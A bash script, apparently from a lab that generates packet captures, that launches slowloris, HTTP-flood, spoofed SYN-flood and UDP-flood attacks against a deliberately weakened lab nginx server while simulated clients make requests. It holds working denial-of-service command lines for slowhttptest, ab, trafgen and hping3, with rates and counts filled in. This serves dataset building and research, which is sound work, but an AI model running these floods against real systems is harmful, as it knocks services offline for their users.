# SPDX-License-Identifier: BSD-2-Clause
# shellcheck shell=bash
# Honest clients of a server that an attack hurts: connections refused for want of room, retries, requests that take long.
# What hurts nobody is laid over honest captures afterwards instead (overlays.awk). kind_NAME makes it; see capture.sh.

kind_live_slowloris() { live 150 connections 'slowhttptest -H -c 900 -r 150 -i 3 -x 24 -p 3 -l 18 -v 0 -u URL/'; }
kind_live_http_flood() { live - connections 'ab -q -t 12 -n 6000 -c 60 URL/'; }

# The queue of half-open connections is short, no cookies help, and nobody is where the invented addresses are.
kind_live_syn_flood() {
	ns_sysctl server net.ipv4.tcp_syncookies=0 net.ipv4.tcp_max_syn_backlog=64
	flood_frames spoofed "$(tcp_header "$HTTP_PORT" syn 10)" "$SYN_OPTIONS" >frames.trafgen
	live 1111 packets "trafgen --notouch-irq --no-sock-mem --cpus 1 --seed $SEED --dev eth0 --conf frames.trafgen --num 12000 --gap 900us"
	WICKED=100.0.0.0/8
}

kind_live_udp_flood() { live 3333 packets "hping3 --quiet --udp --destport 53 --data 30 --interval u300 --count 40000 $TARGET" dns_lookup; }

live() { # rate of the attack, unit, attack, client of a crowd
	local attack
	asked "$1" "$2"
	read -ra attack <<<"${3//URL/$URL}"
	sed -i 's/worker_connections 8192/worker_connections 512/' "$LAB_DIR/server/nginx.conf"
	in_ns server nginx -p "$LAB_DIR/server" -c nginx.conf -s reload
	wicked
	record
	live_attack "${attack[@]}" &
	crowd 200 9 "${4-live_visit}"
	wait $!
}

# Honest clients come first, while it runs and after it.
live_attack() {
	sleep 5
	LONGEST=12 attacker "$@"
}

live_visit() {
	if (($1 % 2)); then
		fetch "$(at 20 "$1")" --retry 2 --max-time 12 "$URL/page/[1-2]"
	else
		fetch "$(at 20 $(($1 % 9 + 220)))" --max-time 8 "$URL/"
	fi
}
